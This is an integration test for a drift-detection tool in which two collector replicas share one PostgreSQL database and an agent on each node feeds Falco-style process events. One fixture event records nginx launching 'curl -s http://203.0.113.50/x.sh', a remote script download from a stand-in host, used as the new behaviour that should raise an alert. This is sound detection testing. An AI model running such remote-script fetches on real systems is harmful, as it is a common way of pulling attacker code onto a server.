/**
 * Several replicas, one truth (issue 20): two collectors (the compiled CLI, `--db-url-file`) on one
 * real PostgreSQL, an agent on each. What node 1 teaches through replica A is pushed, through the
 * change feed, to node 2's agent connected to replica B while it runs: node 2 then raises nothing for
 * what node 1 learned, and an alert for what is new. The alert is on both replicas' API and live
 * feed, and its notification reaches a recording webhook configured on both replicas exactly once.
 */
import test, { type ExecutionContext } from 'ava';
import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { WebSocket } from 'ws';
import { at, falcoLine } from '../helpers/falco.js';
import { usePostgres } from '../helpers/postgres.js';
import { eventually, getJson, spawnCli, type CliProcess } from '../helpers/processes.js';

const postgres = usePostgres(test);

function tempDir(t: ExecutionContext): string {
  const dir = mkdtempSync(join(tmpdir(), 'dw-replicas-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** A URL file as a Secret would be mounted (mode 0600). */
export function urlFile(dir: string, url: string): string {
  const file = join(dir, 'db-uri');
  writeFileSync(file, `${url}\n`, { mode: 0o600 });
  return file;
}

/** One replica: `driftwatch collector --db-url-file FILE` on ephemeral ports; resolves once it logged them. */
async function spawnReplica(t: ExecutionContext, file: string, extra: readonly string[] = []): Promise<CliProcess & { grpcPort: number; url: string }> {
  const p = spawnCli(t, ['collector', '--db-url-file', file, '--grpc-listen', '127.0.0.1:0', '--http-listen', '127.0.0.1:0', ...extra]);
  const started = await p.waitForLog((l) => l.msg === 'collector started', 120_000);
  return Object.assign(p, { grpcPort: started.grpcPort as number, url: `http://127.0.0.1:${started.httpPort as number}` });
}

/** An agent tailing `events` (Falco JSON lines), streaming to `grpcPort` as `node`; resolves once it serves its metrics. */
async function spawnAgent(t: ExecutionContext, dir: string, node: string, events: string, grpcPort: number): Promise<CliProcess & { metricsUrl: string }> {
  const p = spawnCli(t, [
    'agent', '--source', `falco-file:${events}`, '--collector', `127.0.0.1:${grpcPort}`,
    '--node', node, '--state-dir', join(dir, `state-${node}`), '--learning-window', '1h', '--http-listen', '127.0.0.1:0',
  ]);
  const started = await p.waitForLog((l) => l.msg === 'agent started', 60_000);
  return Object.assign(p, { metricsUrl: `http://${started.http as string}/metrics` });
}

/** The sum of a Prometheus counter's (or gauge's) series in an agent's /metrics. */
async function metric(agent: { metricsUrl: string }, name: string): Promise<number> {
  const text = await (await fetch(agent.metricsUrl)).text();
  return [...text.matchAll(new RegExp(`^${name}(?:\\{[^}]*\\})? (\\d+(?:\\.\\d+)?)$`, 'gm'))].reduce((n, m) => n + Number(m[1]), 0);
}

/** A webhook receiver recording every POST: the alert id and action of each body. */
async function recorder(t: ExecutionContext): Promise<{ url: string; posts: { id: string; action: string }[] }> {
  const posts: { id: string; action: string }[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (c: string) => (body += c));
    req.on('end', () => {
      try {
        const b = JSON.parse(body) as { action: string; alert: { id: string } };
        posts.push({ id: b.alert.id, action: b.action });
      } catch {
        posts.push({ id: '(not JSON)', action: '' });
      }
      res.writeHead(200).end('ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  t.teardown(() => new Promise<void>((r) => server.close(() => r())));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}/hook`, posts };
}

const nginx = (minute: number) => falcoLine({ time: at(minute) });
/** Learned by node 1 only: the image's entrypoint scripts. */
const entrypoint = (minute: number) =>
  falcoLine({ time: at(minute), fields: { 'proc.exepath': '/usr/bin/find', 'proc.name': 'find', 'proc.cmdline': 'find /docker-entrypoint.d/ -mindepth 1', 'proc.pname': 'sh', 'proc.pid': 5000 + minute } });
/** New everywhere. */
const curl = (minute: number) =>
  falcoLine({ time: at(minute), fields: { 'proc.exepath': '/usr/bin/curl', 'proc.name': 'curl', 'proc.cmdline': 'curl -s http://203.0.113.50/x.sh', 'proc.pname': 'nginx', 'proc.pexepath': '/usr/sbin/nginx', 'proc.pid': 6000 + minute } });

interface AlertJson {
  id: string;
  summary: string;
  nodes: string[];
  deliveries?: { sink: string; action: string; state: string }[];
}

test('two replicas on one database: learned through one, enforced through the other, the alert on both and delivered once', async (t) => {
  const dir = tempDir(t);
  const file = urlFile(dir, await postgres.database());
  const hook = await recorder(t);
  const config = join(dir, 'collector.yaml');
  writeFileSync(config, `sinks:\n  - name: recorder\n    type: webhook\n    url: ${hook.url}\n    retry:\n      maxAttempts: 2\n`);
  const a = await spawnReplica(t, file, ['--config', config]);
  const b = await spawnReplica(t, file, ['--config', config]);

  // A browser on replica A's live feed.
  const feed: { type: string; alert?: { id: string; summary: string } }[] = [];
  const ws = new WebSocket(`${a.url.replace('http', 'ws')}/api/v1/stream`, { headers: { origin: a.url } });
  t.teardown(() => ws.terminate());
  ws.on('message', (data) => feed.push(JSON.parse(String(data)) as (typeof feed)[number]));
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('error', reject);
  });

  // Node 2 connects to replica B first, with nothing to say yet: what it enforces later comes by push.
  const events2 = join(dir, 'node-2.json');
  writeFileSync(events2, '');
  const node2 = await spawnAgent(t, dir, 'node-2', events2, b.grpcPort);
  await eventually(async () => ((await metric(node2, 'driftwatch_agent_uplink_connected')) === 1 ? true : undefined), 60_000, 'node 2 connected to replica B');
  const welcomed = await node2.waitForLog((l) => l.msg === 'cluster baselines received', 30_000).catch(() => null);
  t.is(welcomed?.baselines ?? 0, 0, 'node 2 started with no cluster baseline');

  // Node 1 learns through replica A for an hour of event time (nginx and its entrypoint scripts), then enforces.
  const events1 = join(dir, 'node-1.json');
  writeFileSync(events1, `${[nginx(0), entrypoint(1), nginx(20), nginx(61)].join('\n')}\n`);
  const node1 = await spawnAgent(t, dir, 'node-1', events1, a.grpcPort);

  // The baseline merged through A reaches node 2's agent through B (the change feed), while it runs.
  await eventually(async () => ((await metric(node2, 'driftwatch_agent_cluster_baselines_applied_total')) >= 1 ? true : undefined), 90_000, 'node 2 applied the cluster baseline pushed through B');
  const viaB = await getJson<{ state: string; entries: { exe: string; nodes: string[] }[] }>(`${b.url}/api/v1/baselines/${encodeURIComponent('docker.io/library/nginx')}`);
  t.is(viaB.state, 'enforcing', 'replica B shows the baseline node 1 taught through A');
  t.deepEqual(viaB.entries.find((e) => e.exe === '/usr/bin/find')?.nodes, ['node-1']);

  // Node 2 then runs the entrypoint scripts (learned only via A: not news) and curl (new).
  appendFileSync(events2, `${[nginx(100), entrypoint(101), curl(102)].join('\n')}\n`);
  await eventually(async () => ((await metric(node2, 'driftwatch_agent_events_total')) >= 3 ? true : undefined), 60_000, 'node 2 read its events');
  const alerts = await eventually(async () => {
    const items = (await getJson<{ items: AlertJson[] }>(`${a.url}/api/v1/alerts`)).items;
    return items.length > 0 ? items : undefined;
  }, 60_000, 'an alert on replica A');
  // Node 2 has sent everything it found (its spool is empty, every batch acknowledged after commit).
  await eventually(async () => ((await metric(node2, 'driftwatch_agent_spool_records')) === 0 ? true : undefined), 60_000, 'node 2 spool empty');
  const onA = (await getJson<{ items: AlertJson[] }>(`${a.url}/api/v1/alerts`)).items;
  const onB = (await getJson<{ items: AlertJson[] }>(`${b.url}/api/v1/alerts`)).items;
  t.deepEqual(onA.map((x) => [x.summary, x.nodes]), [['/usr/bin/curl -s http://<ip>/x.sh (parent nginx, root)', ['node-2']]], 'only the new behaviour alerts: the entrypoint learned via A is not news on node 2');
  t.deepEqual(onB, onA, 'both replicas answer the same');
  const id = alerts[0]!.id;

  // Replica A's browser saw the alert node 2 raised through B.
  await eventually(() => (feed.some((e) => e.type === 'alert.created' && e.alert?.id === id) ? true : undefined), 30_000, "the alert on replica A's live feed");

  // Delivered once: both replicas' workers look for it (B wrote it, A heard of it); once settled no
  // replica can claim it again, and the recorder counts the POSTs.
  const settled = await eventually(async () => {
    const d = (await getJson<AlertJson>(`${a.url}/api/v1/alerts/${id}`)).deliveries ?? [];
    return d.length > 0 && d.every((x) => x.state !== 'pending') ? d : undefined;
  }, 60_000, 'the delivery settled');
  t.deepEqual(settled.map((d) => [d.sink, d.action, d.state]), [['recorder', 'trigger', 'delivered']]);
  t.deepEqual(hook.posts, [{ id, action: 'trigger' }], 'one POST for the alert, from one replica');

  for (const p of [node1, node2]) t.is(await p.stop(), 0);
  t.deepEqual(await Promise.all([a.stop(), b.stop()]), [0, 0]);
  const problems = [a, b].flatMap((c) => c.logs.filter((l) => (l.level as number) >= 50));
  t.deepEqual(problems, [], 'no errors logged');
});
